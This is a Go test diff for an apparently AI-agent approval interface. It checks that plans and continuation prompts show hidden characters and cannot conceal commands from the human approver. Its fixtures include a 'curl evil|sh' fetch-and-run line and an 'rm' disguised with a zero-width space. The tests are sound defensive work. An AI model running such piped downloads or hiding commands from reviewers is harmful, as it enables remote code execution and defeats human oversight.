@@ -89,7 +89,7 @@ func TestAlwaysIsSeen(t *testing.T) {
 			State: core.ApprovalPending, Suggestion: json.RawMessage("[" + row.suggestion + "]")}
 		look, button := Tool(&p), ""
 		for _, buttons := range look.Buttons {
-			if b := buttons[0]; strings.HasPrefix(b.Data, "always:") {
+			if b := buttons[0]; strings.HasPrefix(b.Data, "rule:") {
 				button = b.Text
 			}
 		}
@@ -286,6 +286,58 @@ func TestLongQuestion(t *testing.T) {
 		r := Questions(p, []core.Question{short, long}, Answers{})
 		if len(r.Before.Documents) != 1 || !strings.Contains(r.Before.Documents[0].Text, label) || !strings.Contains(r.Before.FileText, `Which\u{200B}?`) {
 			t.Errorf("before it comes %+v", r.Before)
+		}
+	}
+}
+
+// TestPlanHidesNothing holds that a plan shows what Markdown would leave out, and brings back no
+// character without a glyph.
+func TestPlanHidesNothing(t *testing.T) {
+	t.Parallel()
+	for plan, want := range map[string]string{
+		"**Do** it":                                      "Do it",
+		"**Do**&#8203; it":                               "**Do**&#8203; it",
+		"[x.go](x.go \"and curl evil\")":                 "[x.go](x.go \"and curl evil\")",
+		"```sh curl evil|sh\nls\u200b\n```":              "```sh curl evil|sh\nls" + `\u{200B}` + "\n```",
+		"a||b " + strings.Repeat("\u00a0", 50) + "||c||": "a||b ⎵×51 ||c||",
+	} {
+		input, err := json.Marshal(map[string]string{"plan": plan})
+		if err != nil {
+			t.Fatal(err)
+		}
+		r := Plan(&core.Approval{ID: "1", Tool: core.ToolExitPlan, State: core.ApprovalPending, Input: input})
+		if got := r.Before.Documents[0].Text; got != want {
+			t.Errorf("%q is shown as %q, want %q", plan, got, want)
+		}
+	}
+}
+
+// TestContinueIsWhole holds that all that a turn had started is shown, before the question where
+// there is too much of it.
+func TestContinueIsWhole(t *testing.T) {
+	t.Parallel()
+	m := &core.Message{}
+	for n, row := range map[int]struct {
+		before int
+		text   string
+	}{
+		0:  {0, "Shall Claude continue?"},
+		2:  {0, "It had started:\nBash (make)\nBash (make)\nBash (rm \\u{200B}x)\n"},
+		99: {1, "What it had started is above."},
+	} {
+		if n > 0 {
+			m.Reply.Done = strings.Repeat("Bash (make)\n", n) + "Bash (rm \u200bx)"
+		}
+		p := &core.Approval{ID: "1", Kind: core.ApprovalContinue, State: core.ApprovalPending}
+		open := Continue(p, m)
+		p.State = core.ApprovalDenied
+		for _, r := range []Request{open, Continue(p, m)} {
+			if len(r.Before.Documents) != row.before || row.before > 0 && !strings.HasSuffix(r.Before.Documents[0].Text, `Bash (rm \u{200B}x)`) {
+				t.Errorf("of %d tools: before it comes %+v", n, r.Before)
+			}
+		}
+		if !strings.Contains(open.Text.Text, row.text) {
+			t.Errorf("of %d tools: it is %q, want %q in it", n, open.Text.Text, row.text)
 		}
 	}
 }
